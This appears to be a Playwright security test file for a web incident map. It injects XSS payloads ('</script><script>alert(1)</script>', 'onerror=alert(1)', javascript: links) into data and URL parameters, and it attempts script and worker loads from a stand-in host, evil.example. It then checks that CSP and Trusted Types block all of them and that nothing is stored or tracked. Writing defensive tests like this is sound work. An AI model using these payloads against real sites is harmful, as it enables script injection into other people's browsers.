import { readFileSync } from "node:fs";
import { hostileTexts, withTexts } from "../unit/safety/hostileTexts";
import { expectAgreement } from "./agreement";
import { folder } from "./data";
import { openEmbedded } from "./embed";
import { denyWebGL } from "./open";
import { siteAddress } from "./origins";
import { mapReady, pageReady } from "./ready";
import { handles } from "./timeline";
import { expect, test } from "./watch";

const text = hostileTexts.join(" ");

/** A file of the map as an attacker would have it: every text tries to be something else, every link a script. */
function poisoned(name: string): string {
  const file = withTexts(JSON.parse(readFileSync(`${folder}/${name}`, "utf8")), text);
  return JSON.stringify(file, (key, value) => (key === "archiveUrl" ? "javascript:alert(1)" : value));
}

test("with hostile words in every text of the data and of the address, words stay words and links lead to the web", async ({
  page,
}) => {
  await denyWebGL(page);
  await page.addInitScript(() => {
    for (const name of ["alert", "open", "print"] as const)
      window[name] = () => {
        document.documentElement.dataset.hacked = name;
        return null as never;
      };
  });
  await page.route(/\/data\/[\w-]+\/en\/[\w.]+$/, (route) =>
    route.fulfill({ body: poisoned(route.request().url().split("/").at(-1)!) }),
  );
  const hostile = encodeURIComponent(text);
  const parts = ["kind", "status", "in", "place", "lang", "theme", "map", "title", "data"];
  const address = parts.map((name) => `${name}=${hostile}`).join("&");
  await page.goto(`/#incident=b15-arza&${address}`);
  await pageReady(page);

  await expect(page.getByRole("heading", { level: 1 })).toHaveText(text.replace(/[\r\n\t]+/g, " "), {
    useInnerText: false,
  });
  await expect(page.locator("[data-incident=b15-arza]")).toContainText("onerror=alert(1)");
  expect(await page.title()).toContain("</script><script>alert(1)</script>");
  await expectAgreement(page);
  const found = await page.evaluate(() => ({
    links: [...document.querySelectorAll<HTMLAnchorElement>("a[href]")].map(({ protocol }) => protocol),
    strangers: [
      ...document.querySelectorAll("img, iframe, video, audio, object, embed, form, base, link, script"),
    ]
      .map((each) => each.getAttribute("src") ?? each.getAttribute("href") ?? "")
      .filter((from) => new URL(from, location.href).origin !== location.origin),
    handlers: [...document.querySelectorAll("*")].filter((each) =>
      each.getAttributeNames().some((name) => name.startsWith("on")),
    ).length,
    hacked: document.documentElement.dataset.hacked,
  }));
  expect(found.links.length).toBeGreaterThan(20);
  expect(found.links.filter((protocol) => !/^https?:$/.test(protocol))).toEqual([]);
  expect(found).toMatchObject({ strangers: [], handlers: 0, hacked: undefined });
});

test.describe("where something tries to run", () => {
  test.use({ expectedErrors: [[/Trusted|Content Security Policy|unsafe-eval/i], { scope: "test" }] });

  test("no text becomes markup, script or worker", async ({ page }) => {
    await denyWebGL(page);
    await page.goto("/");
    await pageReady(page);
    const outcomes = await page.evaluate(() => {
      const attempts: Record<string, () => unknown> = {
        innerHTML: () => {
          document.createElement("p").innerHTML = "<img src=x>";
        },
        insertAdjacentHTML: () => document.body.insertAdjacentHTML("beforeend", "<p>"),
        parse: () => new DOMParser().parseFromString("<p>", "text/html"),
        frame: () => {
          document.createElement("iframe").srcdoc = "<p>";
        },
        script: () => {
          document.createElement("script").textContent = "1";
        },
        source: () => {
          document.createElement("script").src = "https://evil.example/x.js";
        },
        timer: () => setTimeout("1" as unknown as () => void),
        worker: () => new Worker("data:text/javascript,1"),
        stranger: () => new Worker("https://evil.example/worker.js"),
        policy: () =>
          (
            self as never as { trustedTypes: { createPolicy(name: string, rules: object): unknown } }
          ).trustedTypes.createPolicy("other", {}),
      };
      return Object.entries(attempts).flatMap(([name, attempt]) => {
        try {
          attempt();
          return [name];
        } catch {
          return [];
        }
      });
    });
    expect(outcomes, "all of them are refused").toEqual([]);
  });
});

test("a map in an article keeps nothing, reads nothing that was kept, tells nobody where its readers are, and needs no clock", async ({
  page,
  context,
}) => {
  await context.addInitScript(() => {
    const note = (what: string) => console.error(`asked for ${what}`);
    const forbid = (object: object, name: string) => {
      const given = Object.getOwnPropertyDescriptor(object, name);
      if (given)
        Object.defineProperty(object, name, {
          ...given,
          get() {
            note(name);
            return given.get?.call(this);
          },
        });
    };
    for (const name of ["localStorage", "sessionStorage", "indexedDB", "caches"]) forbid(window, name);
    forbid(Document.prototype, "cookie");
    forbid(Navigator.prototype, "serviceWorker");
  });
  // A device whose clock is years off: what happened, happened when it did.
  await page.clock.setFixedTime(new Date("1999-12-31T23:59:00Z"));
  const referrers: string[] = [];
  const answers: string[] = [];
  context.on("response", async (response) => {
    if (!response.url().startsWith(siteAddress())) return;
    const headers = await response.request().allHeaders();
    if (headers.referer && response.request().resourceType() !== "document") referrers.push(response.url());
    if ((await response.allHeaders())["set-cookie"] || headers.cookie) answers.push(response.url());
  });
  const map = await openEmbedded(page, "plain", "embed/");
  await mapReady(map);
  await expect(map.locator(".view-sentence")).toContainText("6–9 March 2025");
  await handles(map).from.press("PageUp");
  await expect(map.locator(".view-sentence")).toContainText("7–9 March 2025");
  await map.locator(".mark").first().click();
  await expect(map.locator(".card")).toHaveCount(1);
  expect(await context.cookies()).toEqual([]);
  expect(referrers, "no request says where it comes from").toEqual([]);
  expect(answers).toEqual([]);
  await expect(map.locator("meta[name=referrer]")).toHaveAttribute("content", "no-referrer");
});
